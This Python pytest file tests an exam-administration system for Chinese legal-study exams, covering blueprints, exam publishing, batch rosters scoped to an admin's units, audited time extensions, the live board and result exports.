"""Trainers' and administrators' side of exams: blueprints, the exam lifecycle, batches and
rosters, time extensions, the live board, regrading after a key correction, results."""

import csv
import io
import random
import re
import zipfile
from collections import Counter
from datetime import datetime, timedelta
from decimal import Decimal
from functools import partial

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from core import clock
from core.audit import SYSTEM, Actor, AuditEntry
from core.extensions import db
from core.roles import Role
from core.spreadsheets import XLSX_MIMETYPE
from question_bank import bank
from training import accounts
from training.exams import attempts, models, regrade, results, setup, sittings
from training.exams.forms import format_grade_bands, parse_grade_bands
from training.exams.models import Attempt, AttemptStatus, BatchMember, PaperItem
from training.exams.setup import BlueprintData, SectionData, SetupError
from training.reports import summaries

from ..factories import (
    GRACE,
    add_batch,
    add_questions,
    make_blueprint,
    make_exam,
    take,
)

NOW = datetime(2026, 3, 2, 1, 0)  # 09:00 China time
#: the pre-appointment exams these tests set: 100-point papers of 10 判断
PRE_APPOINTMENT = {
    "title": "任前学法考试（测试）",
    "kind": "pre_appointment",
    "time_limit_minutes": 30,
    "pass_mark": Decimal(60),
    "grade_bands": [[60, "合格"], [80, "良好"], [90, "优秀"]],
}
published_exam = partial(make_exam, **PRE_APPOINTMENT)
draft_exam = partial(make_exam, publish=False, **PRE_APPOINTMENT)


@pytest.fixture(autouse=True)
def nine_oclock(frozen_clock):
    frozen_clock.now = NOW
    return frozen_clock


def audit_entries(action: str) -> list[AuditEntry]:
    return db.session.scalars(select(AuditEntry).where(AuditEntry.action == action)).all()


def ten_true_false(points="10"):
    return SectionData("true_false", 10, Decimal(points))


# --- blueprints --------------------------------------------------------------------


def test_a_blueprint_the_bank_cannot_fill_is_refused_naming_section_and_numbers(law):
    add_questions("true_false", 3)
    add_questions("single", 2, "行政处罚法")
    with pytest.raises(SetupError) as refused:
        setup.save_blueprint(
            SYSTEM,
            BlueprintData(
                "不够的规则",
                [
                    SectionData("true_false", 2, Decimal(5)),
                    SectionData("single", 4, Decimal(5), law_id=law.id),
                ],
            ),
        )
    message = str(refused.value)
    assert "第2部分（单选，宪法）需要 4 道，题库中只有 0 道" in message
    assert "第1部分" not in message


def test_the_blueprint_form_shows_the_shortfall_and_saves_what_fits(client, login_as, law):
    add_questions("true_false", 3)
    login_as(Role.TRAINER)
    form = {
        "name": "判断题组卷",
        "paper_mode": "random",
        "shuffle_choices": "y",
        "sections-0-question_type": "true_false",
        "sections-0-count": "5",
        "sections-0-points": "2",
        "sections-0-law_id": str(law.id),
        "sections-0-topic_id": "0",
    }
    refused = client.post("/manage/blueprints/new", data=form)
    assert refused.status_code == 200
    assert "第1部分（判断，宪法）需要 5 道，题库中只有 3 道" in refused.text
    assert audit_entries("blueprint.save") == []

    saved = client.post("/manage/blueprints/new", data=form | {"sections-0-count": "3"})
    assert saved.status_code == 302
    (entry,) = audit_entries("blueprint.save")
    assert "3 题，满分 6.00" in entry.summary
    listing = client.get("/manage/blueprints").text
    assert "判断题组卷" in listing and "每人随机" in listing


def test_a_section_needs_count_and_points_and_an_empty_form_is_refused(client, login_as, law):
    login_as(Role.TRAINER)
    empty = client.post("/manage/blueprints/new", data={"name": "空规则"})
    assert "至少设置一个部分" in empty.text
    half = client.post(
        "/manage/blueprints/new",
        data={"name": "半截", "sections-0-question_type": "single", "sections-0-law_id": "0"},
    )
    assert "第1部分：请填写题数" in half.text and "第1部分：请填写每题分值" in half.text


def test_a_blueprint_used_by_a_published_exam_cannot_change(law):
    add_questions("true_false", 10)
    blueprint = make_blueprint(ten_true_false())
    published_exam(blueprint)
    with pytest.raises(SetupError, match="不能修改；请复制为新规则"):
        setup.save_blueprint(SYSTEM, setup.blueprint_data_of(blueprint), blueprint)


# --- the exam lifecycle ------------------------------------------------------------


def test_publish_and_close_are_guarded(law):
    add_questions("true_false", 10)
    exam = draft_exam(make_blueprint(ten_true_false()))
    with pytest.raises(SetupError, match="考试当前为「草稿」，不能改为「已结束」"):
        setup.close(SYSTEM, exam)
    setup.publish(SYSTEM, exam)
    assert exam.status == "published" and len(exam.pools[0]) == 10
    with pytest.raises(SetupError, match="考试当前为「已发布」，不能改为「已发布」"):
        setup.publish(SYSTEM, exam)
    setup.close(SYSTEM, exam)
    with pytest.raises(SetupError, match="考试当前为「已结束」"):
        setup.close(SYSTEM, exam)
    with pytest.raises(SetupError):
        setup.publish(SYSTEM, exam)
    assert [e.action for e in audit_entries("exam.publish") + audit_entries("exam.close")] == [
        "exam.publish",
        "exam.close",
    ]


def test_publish_refuses_a_pass_mark_above_a_changed_blueprint(law):
    add_questions("true_false", 10)
    blueprint = make_blueprint(ten_true_false())
    exam = draft_exam(blueprint, pass_mark=Decimal(90), grade_bands=[])
    setup.save_blueprint(
        SYSTEM, BlueprintData("小卷", [SectionData("true_false", 5, Decimal(10))]), blueprint
    )
    with pytest.raises(SetupError, match=r"合格分 90\.00 高于组卷规则的满分 50"):
        setup.publish(SYSTEM, exam)
    assert exam.status == "draft"


def test_the_buttons_publish_close_and_show_a_wrong_move(client, login_as, law):
    add_questions("true_false", 10)
    exam = draft_exam(make_blueprint(ten_true_false()))
    login_as(Role.TRAINER)
    wrong = client.post(f"/manage/exams/{exam.id}/close", follow_redirects=True)
    assert "考试当前为「草稿」，不能改为「已结束」" in wrong.text
    done = client.post(f"/manage/exams/{exam.id}/publish", follow_redirects=True)
    assert "已发布「任前学法考试（测试）」" in done.text
    again = client.post(f"/manage/exams/{exam.id}/publish", follow_redirects=True)
    assert "考试当前为「已发布」，不能改为「已发布」" in again.text
    closed = client.post(f"/manage/exams/{exam.id}/close", follow_redirects=True)
    assert "已结束「任前学法考试（测试）」" in closed.text
    db.session.expire_all()
    assert exam.status == "closed"


def exam_form(blueprint_id: int, **changes) -> dict:
    return {
        "title": "2026年度学法考试",
        "kind": "annual",
        "blueprint_id": str(blueprint_id),
        "time_limit_minutes": "60",
        "pass_mark": "60",
        "grade_bands": "合格 60 / 良好 80 / 优秀 90",
        "attempts_allowed": "2",
        "counting": "last",
        "one_attempt_per_batch": "y",
        "opens_at": "2026-03-01T09:00",
        "closes_at": "2026-03-31 18:00",
        "review_policy": "answers_after_close",
        "multiple_policy": "partial",
        "instructions": "闭卷考试。",
    } | changes


def test_a_draft_can_be_edited_and_a_published_exam_cannot(client, login_as, law):
    add_questions("true_false", 10)
    blueprint = make_blueprint(ten_true_false())
    login_as(Role.TRAINER)
    created = client.post("/manage/exams/new", data=exam_form(blueprint.id))
    assert created.status_code == 302, created.text
    exam = db.session.scalars(select(models.Exam)).one()
    # China time in the form, naive UTC in the database.
    assert exam.opens_at == datetime(2026, 3, 1, 1, 0)
    assert exam.closes_at == datetime(2026, 3, 31, 10, 0)
    assert exam.grade_bands == [[60, "合格"], [80, "良好"], [90, "优秀"]]
    assert (exam.counting, exam.attempts_allowed, exam.one_attempt_per_batch) == ("last", 2, True)
    assert exam.multiple_policy == "partial" and exam.review_policy == "answers_after_close"

    page = client.get(f"/manage/exams/{exam.id}/edit").text
    assert 'value="2026-03-01T09:00"' in page and "合格 60 / 良好 80 / 优秀 90" in page
    edited = client.post(
        f"/manage/exams/{exam.id}/edit", data=exam_form(blueprint.id, title="改名后的考试")
    )
    assert edited.status_code == 302
    db.session.expire_all()
    assert exam.title == "改名后的考试"

    setup.publish(SYSTEM, exam)
    db.session.commit()
    with pytest.raises(SetupError, match="考试已发布，不能再修改设置"):
        setup.save_exam(SYSTEM, setup.exam_data_of(exam), exam)
    refused = client.post(
        f"/manage/exams/{exam.id}/edit", data=exam_form(blueprint.id, title="再改")
    )
    assert "考试已发布，不能再修改设置" in refused.text
    db.session.expire_all()
    assert exam.title == "改名后的考试"
    assert "设置不能再修改" in client.get(f"/manage/exams/{exam.id}/edit").text


def test_the_exam_form_checks_its_fields(client, login_as, law):
    add_questions("true_false", 10)
    blueprint = make_blueprint(ten_true_false())
    login_as(Role.TRAINER)
    page = client.post(
        "/manage/exams/new",
        data=exam_form(
            blueprint.id,
            pass_mark="120",
            grade_bands="合格 六十",
            closes_at="2026-02-01T09:00",
            opens_at="明天",
        ),
    )
    assert page.status_code == 200
    assert "无法识别" in page.text
    assert "时间格式应为 年-月-日 时:分" in page.text
    bands = client.post(
        "/manage/exams/new", data=exam_form(blueprint.id, pass_mark="120", grade_bands="")
    )
    assert "合格分应在 0 到满分 100.00 之间" in bands.text
    assert db.session.scalar(select(func.count()).select_from(models.Exam)) == 0


@pytest.mark.parametrize(
    ("text", "bands"),
    [
        ("合格 60 / 良好 80 / 优秀 90", [[60, "合格"], [80, "良好"], [90, "优秀"]]),
        ("优秀：90，合格:60", [[60, "合格"], [90, "优秀"]]),
        ("60分 合格\n85.5 良好", [[60, "合格"], [85.5, "良好"]]),
        ("", []),
    ],
)
def test_grade_bands_are_read_in_the_usual_ways(text, bands):
    assert parse_grade_bands(text) == bands
    assert parse_grade_bands(format_grade_bands(bands)) == bands


def test_grade_bands_with_a_repeated_score_are_refused():
    with pytest.raises(ValueError, match="同一分数"):
        parse_grade_bands("合格 60 / 及格 60")


# --- papers ------------------------------------------------------------------------


def test_a_fixed_paper_gives_everyone_the_same_questions(law, make_user):
    add_questions("true_false", 10)
    add_questions("single", 10)
    blueprint = make_blueprint(
        SectionData("true_false", 3, Decimal(10)),
        SectionData("single", 2, Decimal(35)),
        shuffle_questions=True,
        shuffle_choices=True,
    )
    exam = published_exam(blueprint)
    people = [make_user() for _ in range(4)]
    add_batch(exam, people)
    papers = [take(user, exam, submit=False, seed=seed) for seed, user in enumerate(people)]
    sets = [{item.question_version_id for item in attempt.items} for attempt in papers]
    assert all(paper == sets[0] for paper in sets) and len(sets[0]) == 5
    orders = [[item.question_version_id for item in attempt.items] for attempt in papers]
    assert len({tuple(order) for order in orders}) > 1  # shuffled per candidate


def test_a_random_paper_is_drawn_per_candidate(law, make_user):
    add_questions("true_false", 30)
    exam = published_exam(
        make_blueprint(SectionData("true_false", 5, Decimal(20)), random_per_candidate=True)
    )
    assert len(exam.pools[0]) == 30
    people = [make_user() for _ in range(4)]
    add_batch(exam, people)
    papers = [take(user, exam, submit=False, seed=seed) for seed, user in enumerate(people)]
    sets = {frozenset(item.question_version_id for item in a.items) for a in papers}
    assert len(sets) > 1
    assert all(len(paper) == 5 for paper in sets)


# --- batches and rosters -----------------------------------------------------------


def test_a_batch_must_lie_within_the_exam_window(law):
    add_questions("true_false", 10)
    blueprint = make_blueprint(ten_true_false())
    draft = draft_exam(blueprint)
    with pytest.raises(SetupError, match="只有已发布的考试可以新建场次"):
        sittings.create_batch(SYSTEM, draft, "一", NOW, NOW + timedelta(hours=1))
    setup.publish(SYSTEM, draft)
    exam = draft
    with pytest.raises(SetupError, match="场次时间应在考试开放时间之内（2026-03-02 08:00 至"):
        sittings.create_batch(SYSTEM, exam, "早了", NOW - timedelta(hours=2), NOW)
    with pytest.raises(SetupError, match="场次时间应在考试开放时间之内"):
        sittings.create_batch(SYSTEM, exam, "晚了", NOW, NOW + timedelta(days=2))
    with pytest.raises(SetupError, match="结束时间应晚于开始时间"):
        sittings.create_batch(SYSTEM, exam, "倒了", NOW + timedelta(hours=2), NOW)
    with pytest.raises(SetupError, match="请填写场次名称"):
        sittings.create_batch(SYSTEM, exam, " ", NOW, NOW + timedelta(hours=1))
    batch = sittings.create_batch(SYSTEM, exam, "第一批", NOW, NOW + timedelta(hours=1))
    assert batch.id and audit_entries("batch.create")


def test_the_batch_form_takes_china_time(client, login_as, law):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    login_as(Role.UNIT_ADMIN)
    outside = client.post(
        f"/manage/exams/{exam.id}/batches/new",
        data={"name": "第一批", "opens_at": "2026-03-02T07:00", "closes_at": "2026-03-02T11:00"},
    )
    assert "场次时间应在考试开放时间之内" in outside.text
    created = client.post(
        f"/manage/exams/{exam.id}/batches/new",
        data={"name": "第一批", "opens_at": "2026-03-02T09:00", "closes_at": "2026-03-02T11:00"},
    )
    assert created.status_code == 302
    (batch,) = exam.batches
    assert (batch.opens_at, batch.closes_at) == (NOW, NOW + timedelta(hours=2))


@pytest.fixture
def tree(make_unit, root_unit, make_user):
    """root > bureau > section, root > town; two people in each; a unit admin of bureau."""
    bureau = make_unit("区司法局", parent=root_unit)
    section = make_unit("法治督察科", parent=bureau)
    town = make_unit("城关镇", parent=root_unit)
    people = {
        unit: [make_user(unit=unit, name=f"{unit.name}{i}") for i in (1, 2)]
        for unit in (bureau, section, town)
    }
    admin = make_user(Role.UNIT_ADMIN, Role.LEARNER, unit=bureau, name="司法局管理员")
    return bureau, section, town, people, admin


def admin_actor(user) -> Actor:
    return Actor(user.id, user.login)


def test_a_roster_by_unit_takes_the_subtree_within_the_admins_scope(law, tree, make_user):
    bureau, section, town, people, admin = tree
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    batch = add_batch(exam)
    scope = accounts.manageable_unit_ids(admin)
    make_user(unit=section, name="已停用", is_active=False)
    make_user(Role.AUDITOR, unit=section, name="审计员")

    added = sittings.add_unit(admin_actor(admin), batch, bureau.id, scope=scope)
    on_roster = {m.user.name for m in batch.members}
    # Every active learner of the subtree, the admin too (also a learner); not the
    # inactive one, nor the auditor, who holds no learner role and sits no exam.
    assert added == 5
    assert on_roster == {"区司法局1", "区司法局2", "法治督察科1", "法治督察科2", "司法局管理员"}

    with pytest.raises(SetupError, match="您无权管理该单位"):
        sittings.add_unit(admin_actor(admin), batch, town.id, scope=scope)
    with pytest.raises(SetupError, match="有 1 人不在您管理的单位内"):
        sittings.add_members(admin_actor(admin), batch, people[town][:1], scope=scope)
    # The system admin (scope None) may add anyone; the unit admin still sees only theirs.
    sittings.add_members(SYSTEM, batch, people[town])
    db.session.commit()
    assert len(sittings.roster(batch)) == 7
    assert {row.user.name for row in sittings.roster(batch, scope)} == on_roster
    (entry, *_) = audit_entries("batch.roster")
    assert entry.summary == "加入 5 人"


def test_the_roster_pages_keep_a_unit_admin_to_their_subtree(client, auth, law, tree):
    bureau, section, town, people, admin = tree
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    batch = add_batch(exam, people[town] + people[section])
    auth.login(admin)
    page = client.get(f"/manage/batches/{batch.id}").text
    assert "法治督察科1" in page and "城关镇1" not in page
    found = client.get(f"/manage/batches/{batch.id}?q=1").text
    assert "区司法局1" in found and "城关镇1" not in found

    refused = client.post(f"/manage/batches/{batch.id}/add-unit", data={"unit_id": town.id})
    assert refused.status_code == 302
    town_ids = [user.id for user in people[town]]
    picked = client.post(
        f"/manage/batches/{batch.id}/add-people",
        data={"user_ids": [people[bureau][0].id, town_ids[0]]},
        follow_redirects=True,
    )
    assert "不在您管理的单位内" in picked.text and "城关镇1" not in picked.text
    ok = client.post(
        f"/manage/batches/{batch.id}/add-people",
        data={"user_ids": [people[bureau][0].id]},
        follow_redirects=True,
    )
    assert "已加入 1 人" in ok.text
    town_member = next(m for m in batch.members if m.user_id == town_ids[0])
    # Outside their units: the same 404 as a member that does not exist.
    assert (
        client.post(f"/manage/batches/{batch.id}/members/{town_member.id}/remove").status_code
        == 404
    )
    assert (
        client.post(
            f"/manage/batches/{batch.id}/members/{town_member.id}/extend", data={"minutes": 5}
        ).status_code
        == 404
    )
    assert "城关镇1" not in client.get(f"/manage/batches/{batch.id}/board").text


def test_only_someone_who_has_not_started_can_be_taken_off(law, make_user, client, login_as):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    waiting, writing = make_user(name="未开始的人"), make_user(name="已开始的人")
    batch = add_batch(exam, [waiting, writing])
    take(writing, exam, submit=False)
    members = {m.user_id: m for m in batch.members}
    with pytest.raises(SetupError, match="「已开始的人」已在本场次开始作答，不能移出名单"):
        sittings.remove_member(SYSTEM, members[writing.id])

    login_as(Role.SYSTEM_ADMIN)
    response = client.post(
        f"/manage/batches/{batch.id}/members/{members[waiting.id].id}/remove",
        follow_redirects=True,
    )
    assert "已将「未开始的人」移出名单" in response.text
    db.session.expire_all()
    assert [m.user_id for m in batch.members] == [writing.id]
    assert audit_entries("batch.roster")[-1].summary.startswith("移出 未开始的人")


# --- extensions and the live board -------------------------------------------------


def test_an_extension_is_audited_and_applies_at_once(law, make_user, client, login_as):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    writing, waiting = make_user(name="张三"), make_user(name="李四")
    batch = add_batch(exam, [writing, waiting])
    attempt = take(writing, exam, submit=False)
    deadline = attempt.deadline_at
    members = {m.user_id: m for m in batch.members}

    login_as(Role.SYSTEM_ADMIN)
    # The board's one form: the person is chosen; back to the same filter and page.
    response = client.post(
        f"/manage/batches/{batch.id}/board/extend?state=in_progress&q=%E5%BC%A0",
        data={"member_id": members[writing.id].id, "minutes": "15"},
    )
    assert response.status_code == 302
    assert response.location == f"/manage/batches/{batch.id}/board?state=in_progress&q=%E5%BC%A0"
    db.session.expire_all()
    assert attempt.deadline_at == deadline + timedelta(minutes=15)
    assert members[writing.id].extra_minutes == 15
    (entry,) = audit_entries("batch.extend")
    assert entry.summary.startswith("张三") and "延长 15 分钟" in entry.summary
    assert entry.detail_dict["attempt"] == attempt.id

    # Not started yet: the extra time waits for the start.
    client.post(
        f"/manage/batches/{batch.id}/members/{members[waiting.id].id}/extend",
        data={"minutes": "10"},
    )
    db.session.expire_all()
    later = take(waiting, exam, submit=False)
    assert later.deadline_at == NOW + timedelta(minutes=30 + 10)
    bad = client.post(
        f"/manage/batches/{batch.id}/members/{members[waiting.id].id}/extend",
        data={"minutes": "0"},
        follow_redirects=True,
    )
    assert "延长时间应为正整数分钟" in bad.text
    assert len(audit_entries("batch.extend")) == 2


def _extend(client, batch, member, minutes):
    return client.post(
        f"/manage/batches/{batch.id}/members/{member.id}/extend",
        data={"minutes": str(minutes)},
        follow_redirects=True,
    )


def test_extensions_are_never_ones_own_and_bounded_in_total(
    law, make_user, make_unit, root_unit, client, auth
):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    bureau = make_unit("区司法局", parent=root_unit)
    admin = make_user(Role.UNIT_ADMIN, Role.LEARNER, unit=bureau)
    candidate = make_user(unit=bureau, name="考生甲")
    batch = add_batch(exam, [admin, candidate])
    members = {m.user_id: m for m in batch.members}
    take(admin, exam, submit=False)
    auth.login(admin)
    roster = client.get(f"/manage/batches/{batch.id}").text
    assert f"/members/{members[admin.id].id}/extend" not in roster  # no button for oneself
    assert f"/members/{members[candidate.id].id}/extend" in roster
    board = client.get(f"/manage/batches/{batch.id}/board").text
    assert f'<option value="{members[admin.id].id}">' not in board
    assert f'<option value="{members[candidate.id].id}">' in board

    own = _extend(client, batch, members[admin.id], 10)
    assert "不能对自己的账号执行此操作" in own.text
    assert "不能对自己" in _extend(client, batch, members[admin.id], 600).text
    huge = _extend(client, batch, members[candidate.id], 600)
    assert "每人每场次累计最多延长 60 分钟" in huge.text
    assert "已为「考生甲」延长 40 分钟" in _extend(client, batch, members[candidate.id], 40).text
    over = _extend(client, batch, members[candidate.id], 30)
    assert "已延长 40 分钟，最多还可延长 20 分钟" in over.text
    _extend(client, batch, members[candidate.id], 20)
    full = _extend(client, batch, members[candidate.id], 1)
    assert "不能再延长" in full.text
    db.session.expire_all()
    assert members[admin.id].extra_minutes == 0
    assert members[candidate.id].extra_minutes == 60
    assert [e.detail_dict["minutes"] for e in audit_entries("batch.extend")] == [40, 20]


def test_the_maximum_is_configurable(app, law, make_user, client, login_as):
    app.config["EXTENSION_MAX_MINUTES"] = 5
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    batch = add_batch(exam, [make_user()])
    login_as(Role.SYSTEM_ADMIN)
    assert "累计最多延长 5 分钟" in _extend(client, batch, batch.members[0], 6).text


def test_only_a_system_admin_extends_past_the_batch_close(
    law, make_user, make_unit, root_unit, client, auth
):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    bureau = make_unit("区司法局", parent=root_unit)
    writing, waiting = make_user(unit=bureau), make_user(unit=bureau)
    # The batch closes 40 minutes from now; the paper takes 30.
    batch = add_batch(exam, [writing, waiting], NOW, NOW + timedelta(minutes=40))
    members = {m.user_id: m for m in batch.members}
    attempt = take(writing, exam, submit=False)
    auth.login(make_user(Role.UNIT_ADMIN, unit=bureau))

    past = _extend(client, batch, members[writing.id], 15)
    assert "只有系统管理员可以延长到场次结束之后" in past.text
    assert "已为" in _extend(client, batch, members[writing.id], 10).text
    # Not started yet: the extension ends with the batch, whenever they start.
    _extend(client, batch, members[waiting.id], 30)
    db.session.expire_all()
    assert attempt.deadline_at == NOW + timedelta(minutes=40)
    assert take(waiting, exam, submit=False).deadline_at == NOW + timedelta(minutes=40)

    auth.logout()
    auth.login(make_user(Role.SYSTEM_ADMIN))
    _extend(client, batch, members[writing.id], 15)
    db.session.expire_all()
    assert attempt.deadline_at == NOW + timedelta(minutes=55)
    assert members[writing.id].past_close_minutes == 15
    entry = audit_entries("batch.extend")[-1]
    assert entry.detail_dict["past_close"] is True


def test_a_system_admins_extension_before_the_start_may_pass_the_close(law, make_user):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    candidate = make_user()
    batch = add_batch(exam, [candidate], NOW, NOW + timedelta(minutes=40))
    admin = make_user(Role.SYSTEM_ADMIN)
    sittings.extend_time(SYSTEM, admin, batch.members[0], 20, maximum=60)
    db.session.commit()
    # 30 minutes of paper capped by nothing, plus 20 a system admin gave past the close.
    assert take(candidate, exam, submit=False).deadline_at == NOW + timedelta(minutes=50)


def test_the_board_counts_and_submits_what_ran_out(law, make_user, client, login_as, frozen_clock):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    idle, writing, passed, failed, late = (
        make_user(name=name) for name in ("未动", "在写", "考过", "没过", "超时")
    )
    batch = add_batch(exam, [idle, writing, passed, failed, late])
    take(passed, exam)
    take(failed, exam, answers={"true_false": [1]})
    frozen_clock.now = NOW - timedelta(minutes=29)
    expired = take(late, exam, submit=False)
    frozen_clock.now = NOW + timedelta(minutes=1, seconds=1)
    take(writing, exam, submit=False)
    frozen_clock.now = NOW + timedelta(minutes=10)

    board = sittings.board(batch, clock.now(), GRACE)
    assert board.count("not_started") == 1
    assert board.count("in_progress") == 1
    assert board.count("submitted") == 3
    assert (board.passed, board.failed) == (2, 1)  # the expired attempt had all answers right
    db.session.refresh(expired)
    assert expired.status == AttemptStatus.SUBMITTED.value and expired.submitted_by == "deadline"
    row = next(row for row in board.rows if row.name == "在写")
    assert row.remaining_seconds == (30 - 9) * 60 + 1

    login_as(Role.SYSTEM_ADMIN)
    page = client.get(f"/manage/batches/{batch.id}/board").text
    assert "21 分 1 秒" in page and "100.00 / 100.00" in page and "到时自动交卷" in page
    assert 'http-equiv="refresh"' in page


def states(rows) -> dict[str, str]:
    return {row.name: row.state_label for row in rows}


def test_board_results_and_export_say_where_each_person_stands(
    law, make_user, client, login_as, frozen_clock
):
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    idle, writing, done = (make_user(name=name) for name in ("未动", "在写", "交了"))
    batch = add_batch(exam, [idle, writing, done], NOW, NOW + timedelta(hours=3), "第一批")
    take(done, exam)
    take(writing, exam, submit=False)

    # While the window is open nobody is 未参加: one rule for the board, results, export.
    expected = {"未动": "未开始", "在写": "进行中", "交了": "已交卷"}
    assert states(sittings.board(batch, clock.now(), GRACE).rows) == expected
    outcome = results.results(exam, clock.now(), GRACE)
    assert states(outcome.rows) == expected
    assert (outcome.count("not_started"), outcome.count("absent")) == (1, 0)
    exported = results.export_results(SYSTEM, exam, "csv", clock.now(), GRACE)
    table = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert {row[0]: row[3] for row in table[1:]} == expected
    login_as(Role.SYSTEM_ADMIN)
    page = client.get(f"/manage/exams/{exam.id}/results").text
    assert "进行中" in page and "未参加" not in page.split("按人员")[1]

    # Once the batch has closed: whoever never started did not take part; the attempt
    # whose time ran out is handed in by the clock.
    frozen_clock.now = NOW + timedelta(hours=4)
    closed = {"未动": "未参加", "在写": "已交卷", "交了": "已交卷"}
    assert states(results.results(exam, clock.now(), GRACE).rows) == closed
    assert states(sittings.board(batch, clock.now(), GRACE).rows) == closed


def test_results_count_states_as_its_rows_say_without_ranking_everyone(law, make_user, tree):
    """The counts by state come from the summaries and the open attempts; they equal the
    states of everyone's rows: a retake being written, a closed batch, an open one."""
    _bureau, section, _town, _people, admin = tree
    add_questions("true_false", 10)
    exam = published_exam(
        make_blueprint(ten_true_false()), attempts_allowed=2, retake_after_pass=True
    )
    names = ("交了", "在写", "补考中", "没来", "未动")
    person = {name: make_user(name=name, unit=section) for name in names}
    gone = add_batch(exam, [person["没来"]], NOW - timedelta(hours=1), NOW - timedelta(minutes=30))
    add_batch(
        exam, [person[name] for name in names if name != "没来"], NOW, NOW + timedelta(hours=3)
    )
    take(person["交了"], exam)
    take(person["在写"], exam, submit=False)
    take(person["补考中"], exam)
    take(person["补考中"], exam, submit=False)
    assert gone.closes_at < clock.now()
    for scope in (None, accounts.manageable_unit_ids(admin)):
        outcome = results.results(exam, clock.now(), GRACE, scope)
        everyone = db.session.execute(select(results.people_query(exam, clock.now(), scope)))
        expected = Counter(row.state for row in everyone)
        assert outcome.counts == dict(expected)
        assert expected == {"submitted": 1, "in_progress": 2, "absent": 1, "not_started": 1}
        assert states(outcome.rows) == {
            "交了": "已交卷",
            "在写": "进行中",
            "补考中": "进行中",
            "没来": "未参加",
            "未动": "未开始",
        }


def test_a_results_page_past_the_end_shows_the_last(law, make_user, monkeypatch):
    monkeypatch.setattr(results, "RESULTS_PAGE_SIZE", 2)
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    add_batch(exam, [make_user(name=f"考生{index}") for index in range(5)])
    outcome = results.results(exam, clock.now(), GRACE, page=99)
    assert (outcome.page, outcome.pages, [row.name for row in outcome.rows]) == (3, 3, ["考生4"])
    assert results.results(exam, clock.now(), GRACE, page=-1).page == 1


def test_the_xlsx_export_has_numbers_widths_and_a_sheet_by_unit(law, tree):
    bureau, _section, town, people, _admin = tree
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    batch = add_batch(exam, people[bureau] + people[town])
    seed_attempts(exam, batch, people[bureau][0], [85])
    seed_attempts(exam, batch, people[town][0], [40])
    data = results.export_results(SYSTEM, exam, "xlsx", clock.now(), GRACE)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["考试成绩", "按单位"]
    sheet = book["考试成绩"]
    header = [cell.value for cell in sheet[2]]
    row = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "区司法局1")
    cells = dict(zip(header, row, strict=True))
    for name, value in (("成绩", 85), ("满分", 100)):
        assert (cells[name].value, cells[name].data_type) == (value, "n")
        assert cells[name].number_format == "0.00"
    assert (cells["作答次数"].value, cells["作答次数"].data_type) == (1, "n")
    assert cells["交卷时间（北京时间）"].value == datetime(2026, 3, 2, 9, 1)  # NOW + 1 min
    assert cells["状态"].value == "已交卷" and cells["是否合格"].value == "合格"
    assert sheet.column_dimensions["A"].width == 12
    assert sheet.column_dimensions["C"].width == 36

    by_unit = book["按单位"]
    assert [cell.value for cell in by_unit[2]] == [
        "单位",
        "应考人数",
        "参考人数",
        "合格人数",
        "合格率",
    ]
    rows = {row[0].value: row for row in by_unit.iter_rows(min_row=3)}
    bureau_row = rows["测试区人民政府 / 区司法局"]
    assert [cell.value for cell in bureau_row[1:]] == [2, 1, 1, 1]
    assert bureau_row[4].number_format == "0.0%"
    assert [cell.value for cell in rows["测试区人民政府 / 城关镇"][1:]] == [2, 1, 0, 0]


def test_board_and_results_take_as_many_queries_for_50_people_as_for_5(
    law, make_user, client, login_as, count_queries
):
    add_questions("true_false", 10)
    login_as(Role.SYSTEM_ADMIN)
    counted = {}
    for size in (5, 50):
        exam = published_exam(make_blueprint(ten_true_false()))
        people = [make_user(name=f"考生{size}-{i:02}") for i in range(size)]
        batch = add_batch(exam, people)
        take(people[0], exam)
        take(people[1], exam, answers={"true_false": [1]})
        take(people[2], exam, submit=False)
        with count_queries() as board_queries:
            board = client.get(f"/manage/batches/{batch.id}/board")
        with count_queries() as results_queries:
            page = client.get(f"/manage/exams/{exam.id}/results")
        assert board.status_code == page.status_code == 200
        assert board.text.count('data-label="姓名"') == size
        counted[size] = (len(board_queries), len(results_queries))
    assert counted[5] == counted[50]


def test_the_board_pages_filters_and_has_one_extension_form(
    law, make_user, make_unit, root_unit, client, login_as
):
    town = make_unit("城关镇", parent=root_unit)
    add_questions("true_false", 10)
    exam = published_exam(make_blueprint(ten_true_false()))
    people = [make_user(name=f"考生{i:02}", login=f"kaosheng{i:02}") for i in range(53)]
    people += [
        make_user(name="达标率100%", login="percent", unit=town),
        make_user(name="李_四", login="underscore", unit=town),
    ]
    batch = add_batch(exam, people)
    take(people[0], exam, submit=False)
    take(people[1], exam)
    login_as(Role.SYSTEM_ADMIN)
    url = f"/manage/batches/{batch.id}/board"

    def names(query: str = "") -> list[str]:
        page = client.get(url + query).text
        return re.findall(r'<td data-label="姓名">([^<]*)</td>', page)

    first = client.get(url).text
    assert "共 55 人符合条件，第 1 / 2 页" in first
    assert len(names()) == 50 and len(names("?page=2")) == 5
    # One extension form, offering the people of the page who have not handed in.
    assert first.count("<form") - first.count('method="get"') == 1 + first.count("/logout")
    assert first.count(f'action="/manage/batches/{batch.id}/board/extend') == 1
    assert first.count('<option value="') - first.count('<option value=""') >= 49
    assert "考生01（kaosheng01）" not in first  # handed in

    assert names("?state=in_progress") == ["考生00"]
    assert sorted(names(f"?unit_id={town.id}")) == ["李_四", "达标率100%"]
    assert names("?q=%25") == ["达标率100%"]  # % and _ match themselves
